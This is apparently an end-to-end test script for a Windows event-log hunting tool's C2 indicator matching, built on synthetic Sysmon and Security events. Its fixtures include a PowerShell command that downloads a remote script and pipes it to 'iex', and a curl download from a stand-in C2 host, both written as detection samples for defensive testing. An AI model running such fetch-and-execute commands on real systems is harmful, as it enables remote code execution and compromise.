#!/usr/bin/env python3
"""plainsight hunt --iocs end to end: C2 domains and addresses of an IOC list
found in Sysmon DNS queries (22), network connections (3) and command lines
(Security 4688, Sysmon 1) are reported as detections with their own rule
("C2 IOC: <ioc>", id ioc:c2:<ioc>, level by score, command-and-control /
t1071); look-alikes and the machine's own name are not; exit codes, csv and
jsonl, --min-level, --from/--to, --rule-id/--tags (Sigma only), --rules
together with --iocs, --html, thread independence.

Works on a fresh clone: the EVTX is written by the project's own evtxgen, the
IOC list and the rule here. With the shared corpus present it also checks
that signature-base's IOC directory loads without errors.
"""

import csv
import io
import json
import os
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pslib  # noqa: E402

COLUMNS = ["Timestamp", "Computer", "Channel", "EventID", "RecordID", "Level", "RuleTitle",
           "RuleID", "MitreTactics", "MitreTags", "Details", "EvtxFile"]

# One scored and one unscored entry at least; the comment is the description.
C2_IOCS = """# Test C2 servers (unscored: Loki's default 100)
evil-c2.example
# Staging hosts, scored
198.51.100.23;70
bad-cdn.example;45
"""

RULE_IWR = "22222222-0000-4000-8000-000000000001"
RULE = """title: PowerShell Web Request
id: %s
status: stable
level: medium
tags: [attack.execution, attack.t1059.001]
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4688
    CommandLine|contains: 'iwr '
  condition: sel
""" % RULE_IWR

SYSMON = ("Microsoft-Windows-Sysmon", "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
          "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "54849625-5478-4994-A5BA-3E3B0328C30D",
            "Security")


def data_template(guid, names):
    return {"guid": guid,
            "tree": ["EventData"] + [["Data", {"Name": n}, {"$sub": i, "type": "string"}]
                                     for i, n in enumerate(names)]}


TEMPLATES = {
    "sysmon_22": data_template("6B1C2F10-6F24-4A4E-9C45-0D8A8E1D0022",
                               ["UtcTime", "ProcessId", "QueryName", "QueryStatus",
                                "QueryResults", "Image"]),
    "sysmon_3": data_template("6B1C2F10-6F24-4A4E-9C45-0D8A8E1D0003",
                              ["UtcTime", "Image", "Protocol", "SourceIp", "SourcePort",
                               "DestinationIp", "DestinationHostname", "DestinationPort"]),
    "sysmon_1": data_template("6B1C2F10-6F24-4A4E-9C45-0D8A8E1D0001",
                              ["UtcTime", "Image", "CommandLine", "ParentImage"]),
    "security_4688": data_template("6B1C2F10-6F24-4A4E-9C45-0D8A8E1D4688",
                                   ["SubjectUserName", "NewProcessName", "CommandLine"]),
}

# (record id, time, computer, provider, event id, template, values). Times
# out of order on purpose, so that sorting by time is visible.
HITS = [
    (1, "2024-05-02T10:00:00Z", "WS01.corp.example", SYSMON, 22, "sysmon_22",
     ["2024-05-02 10:00:00.000", "4242", "evil-c2.example", "0",
      "::ffff:192.0.2.10;", "C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe"]),
    (2, "2024-05-01T09:00:00Z", "WS01.corp.example", SYSMON, 22, "sysmon_22",
     ["2024-05-01 09:00:00.000", "4242", "beacon.EVIL-C2.example", "0",
      "::ffff:192.0.2.11;", "C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe"]),
    (3, "2024-05-03T08:00:00Z", "WS02.corp.example", SYSMON, 3, "sysmon_3",
     ["2024-05-03 08:00:00.000", "C:\\Windows\\System32\\rundll32.exe", "tcp",
      "10.0.0.12", "50123", "198.51.100.23", "", "443"]),
    (4, "2024-05-02T12:00:00Z", "WS02.corp.example", SECURITY, 4688, "security_4688",
     ["bob", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell -nop -c \"iwr http://files.bad-cdn.example/a.ps1 | iex\""]),
    (5, "2024-05-04T07:00:00Z", "WS01.corp.example", SYSMON, 1, "sysmon_1",
     ["2024-05-04 07:00:00.000", "C:\\Windows\\System32\\curl.exe",
      "curl -o x.bin https://evil-c2.example:8443/x", "C:\\Windows\\System32\\cmd.exe"]),
]

# What each hit gives: record id -> (ioc, level, field named first in Details).
EXPECTED = {
    1: ("evil-c2.example", "high", "QueryName: evil-c2.example"),
    2: ("evil-c2.example", "high", "QueryName: beacon.EVIL-C2.example"),
    3: ("198.51.100.23", "medium", "DestinationIp: 198.51.100.23"),
    4: ("bad-cdn.example", "low", "CommandLine: powershell"),
    5: ("evil-c2.example", "high", "CommandLine: curl"),
}

# Look-alikes: a label suffix that is not a parent domain, an address that
# only starts like a listed one, a listed domain as the machine's own name
# (System fields are not where an event connects to), ordinary traffic.
BENIGN = [
    (11, "2024-05-02T11:00:00Z", "WS01.corp.example", SYSMON, 22, "sysmon_22",
     ["2024-05-02 11:00:00.000", "900", "notevil-c2.example", "0", "192.0.2.50;",
      "C:\\Program Files\\Mozilla Firefox\\firefox.exe"]),
    (12, "2024-05-02T11:01:00Z", "WS02.corp.example", SYSMON, 3, "sysmon_3",
     ["2024-05-02 11:01:00.000", "C:\\Windows\\System32\\svchost.exe", "tcp", "10.0.0.12",
      "50200", "198.51.100.230", "update.example.org", "443"]),
    (13, "2024-05-02T11:02:00Z", "host.evil-c2.example", SYSMON, 22, "sysmon_22",
     ["2024-05-02 11:02:00.000", "900", "www.microsoft.com", "0", "192.0.2.80;",
      "C:\\Windows\\System32\\svchost.exe"]),
    (14, "2024-05-02T11:03:00Z", "WS02.corp.example", SECURITY, 4688, "security_4688",
     ["bob", "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\evil-c2.example.txt.bak"]),
]


def description(fixture_dir, events):
    """Our records on the System template of the security_4688 fixture."""
    with open(os.path.join(fixture_dir, "security_4688.json")) as f:
        templates = {"system": json.load(f)["templates"]["system"]}
    templates.update(TEMPLATES)
    records = []
    for rid, time, computer, (provider, guid, channel), eid, tmpl, values in events:
        data = {"type": "binxml", "template": tmpl, "values": values}
        records.append({"id": rid, "time": time, "template": "system", "values": [
            provider, guid, eid, 2, 4, 0, 0, "0x8000000000000000", time, rid, None, 3000,
            4000, channel, computer, "S-1-5-18", data]})
    return {"templates": templates, "records": records}


def main():
    args = pslib.parse_args(__doc__)
    exe = os.path.abspath(args.plainsight)
    evtxgen = os.path.join(args.build_dir, "tools", "evtxgen", "evtxgen")
    here = os.path.dirname(os.path.abspath(__file__))
    fixtures = os.path.join(here, "..", "fixtures", "evtxgen")
    if not os.path.exists(evtxgen):
        pslib.skip("evtxgen not built at %s" % evtxgen)
    c = pslib.Checker(args.verbose)
    with tempfile.TemporaryDirectory(prefix="ps_hunt_iocs_") as tmp:
        iocs = os.path.join(tmp, "iocs")
        os.mkdir(iocs)
        with open(os.path.join(iocs, "c2-iocs.txt"), "w") as f:
            f.write(C2_IOCS)
        rules = os.path.join(tmp, "rules")
        os.mkdir(rules)
        with open(os.path.join(rules, "iwr.yml"), "w") as f:
            f.write(RULE)

        def build(name, events):
            desc = os.path.join(tmp, name + ".json")
            with open(desc, "w") as f:
                json.dump(description(fixtures, events), f)
            out = os.path.join(tmp, name + ".evtx")
            rc, _, err = pslib.run([evtxgen, desc, out])
            if rc != 0:
                print("FAIL evtxgen: " + pslib.last_line(err))
                pslib.finish(c.passed, c.failed + 1)
            return out

        evtx = build("c2", HITS + BENIGN)
        benign = build("benign", BENIGN)

        def hunt(*extra, inputs=None):
            return pslib.run([exe, "hunt"] + list(extra) + (inputs or [evtx]), timeout=600)

        def rows_csv(*extra, inputs=None):
            rc, out, err = hunt("-f", "csv", *extra, inputs=inputs)
            rows = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
            return rc, rows, err

        def rows_jsonl(*extra, inputs=None):
            rc, out, err = hunt("-f", "jsonl", *extra, inputs=inputs)
            return rc, [json.loads(l) for l in out.decode("utf-8").splitlines()], err

        # --iocs alone: exactly the five hits, each by its indicator; no Sigma rules.
        rc, objs, err = rows_jsonl("--iocs", iocs)
        c.check("--iocs alone: exit 1", rc == 1, "rc=%s %s" % (rc, pslib.last_line(err)))
        c.check("--iocs alone loads no Sigma rules", b"rules loaded" not in err, err[-300:])
        c.check("jsonl keys", objs and all(list(o.keys()) == COLUMNS for o in objs), objs[:1])
        got = {o["RecordID"]: o for o in objs}
        c.check("one detection per hit, none for benign events",
                len(objs) == len(EXPECTED) and sorted(got) == sorted(EXPECTED),
                [(o["RecordID"], o["RuleTitle"]) for o in objs])
        for rid, (ioc, level, details) in sorted(EXPECTED.items()):
            o = got.get(rid, {})
            c.check("record %d: title" % rid, o.get("RuleTitle") == "C2 IOC: " + ioc, o)
            c.check("record %d: level %s" % (rid, level), o.get("Level") == level, o)
            c.check("record %d: rule id" % rid, o.get("RuleID") == "ioc:c2:" + ioc, o)
            c.check("record %d: ATT&CK" % rid, o.get("MitreTactics") == "command-and-control"
                    and o.get("MitreTags") == "t1071", o)
            c.check("record %d: Details name the field" % rid,
                    o.get("Details", "").startswith(details), o.get("Details"))
        c.check("Details keep the other fields",
                "Image: C:\\Users\\alice" in got.get(1, {}).get("Details", ""), got.get(1))
        c.check("channel and event id", got.get(3, {}).get("Channel") ==
                "Microsoft-Windows-Sysmon/Operational" and got.get(3, {}).get("EventID") == 3
                and got.get(4, {}).get("Channel") == "Security", got.get(3))
        c.check("sorted by time", [o["RecordID"] for o in objs] == [2, 1, 4, 3, 5],
                [o["RecordID"] for o in objs])
        c.check("summary counts C2 detections", b"C2 IOCs: 3 domains and addresses, "
                b"5 detections" in err and b"high 3, medium 1, low 1" in err,
                err.decode("utf-8", "replace"))

        rc, rows, _ = rows_csv("--iocs", iocs)
        c.check("csv header", rows and rows[0] == COLUMNS, rows[:1])
        c.check("csv == jsonl", [(r[4], r[6], r[5]) for r in rows[1:]] ==
                [(str(o["RecordID"]), o["RuleTitle"], o["Level"]) for o in objs], rows)
        rc, out, _ = hunt("-f", "table", "--iocs", iocs)
        c.check("table", rc == 1 and b"C2 IOC: evil-c2.example" in out, out[:300])

        # Exit 0 when only benign events, header only.
        rc, rows, err = rows_csv("--iocs", iocs, inputs=[benign])
        c.check("benign only: exit 0, header only", rc == 0 and len(rows) == 1,
                (rc, rows, pslib.last_line(err)))

        # Filters: --min-level and --from/--to apply; --rule-id/--tags select Sigma only.
        rc, objs, _ = rows_jsonl("--iocs", iocs, "--min-level", "medium")
        c.check("--min-level medium drops the low one",
                sorted(o["RecordID"] for o in objs) == [1, 2, 3, 5], objs)
        rc, objs, _ = rows_jsonl("--iocs", iocs, "--min-level", "critical")
        c.check("--min-level critical: exit 0", rc == 0 and objs == [], (rc, objs))
        rc, objs, _ = rows_jsonl("--iocs", iocs, "--from", "2024-05-02", "--to", "2024-05-02")
        c.check("--from/--to", sorted(o["RecordID"] for o in objs) == [1, 4], objs)
        rc, objs, _ = rows_jsonl("--iocs", iocs, "--tags", "discovery")
        c.check("--tags leaves C2 detections alone", len(objs) == 5, len(objs))

        # With --rules: Sigma and C2 detections side by side, in one timeline.
        rc, objs, err = rows_jsonl("--iocs", iocs, "-r", rules)
        keys = [(o["RecordID"], o["RuleID"]) for o in objs]
        c.check("--rules + --iocs: both kinds", rc == 1 and len(objs) == 6 and
                (4, RULE_IWR) in keys and (4, "ioc:c2:bad-cdn.example") in keys, keys)
        c.check("--rules + --iocs: Sigma before C2 on one record",
                keys.index((4, RULE_IWR)) + 1 == keys.index((4, "ioc:c2:bad-cdn.example")),
                keys)
        c.check("--rules + --iocs: sorted by time",
                [o["Timestamp"] for o in objs] == sorted(o["Timestamp"] for o in objs), keys)
        c.check("--rules + --iocs: summary names both",
                b"rules: 1 loaded" in err and b"C2 IOCs: 3" in err, err[-400:])
        rc, objs, _ = rows_jsonl("--iocs", iocs, "-r", rules, "--rule-id", RULE_IWR)
        c.check("--rule-id selects Sigma rules only", len(objs) == 6, len(objs))
        rc, objs, _ = rows_jsonl("--iocs", iocs, "-r", rules, "--rule-id", "none")
        c.check("--rule-id matching no rule keeps C2 detections", rc == 1 and
                [o["RuleID"].startswith("ioc:c2:") for o in objs] == [True] * 5, objs)
        rc, objs, _ = rows_jsonl("-r", rules)
        c.check("without --iocs: Sigma only", rc == 1 and
                [o["RuleID"] for o in objs] == [RULE_IWR], objs)

        # Same output whatever the thread count.
        _, one, _ = hunt("-f", "jsonl", "-t", "1", "--iocs", iocs, "-r", rules)
        _, two, _ = hunt("-f", "jsonl", "-t", "3", "--iocs", iocs, "-r", rules)
        c.check("threads 1 == 3", one == two and one)

        # The HTML report takes the C2 detections like any other.
        html = os.path.join(tmp, "report.html")
        rc, _, err = hunt("-q", "-f", "csv", "--iocs", iocs, "--html", html)
        page = open(html, encoding="utf-8").read() if os.path.exists(html) else ""
        c.check("--html holds the C2 detections", rc == 1 and
                "C2 IOC: evil-c2.example" in page and "ioc:c2:198.51.100.23" in page,
                pslib.last_line(err))

        # Bad lists and directories.
        rc, _, err = hunt("--iocs", os.path.join(tmp, "no-such-dir"))
        c.check("unreadable --iocs: exit 2", rc == 2 and b"no-such-dir" in err, err[-300:])
        bad = os.path.join(tmp, "bad-iocs")
        os.mkdir(bad)
        with open(os.path.join(bad, "c2-iocs.txt"), "w") as f:
            f.write("evil-c2.example\nbad host name!\nx.io;many\n")
        rc, objs, err = rows_jsonl("--iocs", bad)
        c.check("bad C2 lines reported with file and line, the rest used",
                rc == 1 and b"c2-iocs.txt:2:" in err and b"c2-iocs.txt:3:" in err and
                b"(2 bad lines skipped)" in err and len(objs) == 3, err[-500:])
        empty = os.path.join(tmp, "no-c2")
        os.mkdir(empty)
        with open(os.path.join(empty, "keywords.txt"), "w") as f:
            f.write("mimikatz\n")
        rc, objs, err = rows_jsonl("--iocs", empty)
        c.check("no C2 list: a warning, exit 0", rc == 0 and objs == [] and
                b"no C2 list" in err, (rc, err[-300:]))
        rc, out, err = hunt("-q", "-f", "csv", "--iocs", iocs)
        c.check("-q: nothing on stderr", rc == 1 and err == b"", err[-300:])

        # With the shared corpus: signature-base's lists load without errors.
        sigbase = os.path.join(args.corpus, "signature-base", "iocs")
        if os.path.isdir(sigbase):
            rc, out, err = hunt("-f", "jsonl", "--iocs", sigbase)
            text = err.decode("utf-8", "replace")
            c.check("signature-base IOCs load without errors",
                    rc in (0, 1) and "(0 bad lines skipped)" in text and "error" not in text
                    and "warning" not in text, text[-600:])
            c.check("signature-base: some C2 indicators",
                    "C2 domains and addresses loaded" in text and
                    not text.startswith("plainsight: 0 C2"), text[:200])
        elif args.verbose:
            print("note: shared corpus absent; signature-base not loaded")
    pslib.finish(c.passed, c.failed)


if __name__ == "__main__":
    main()
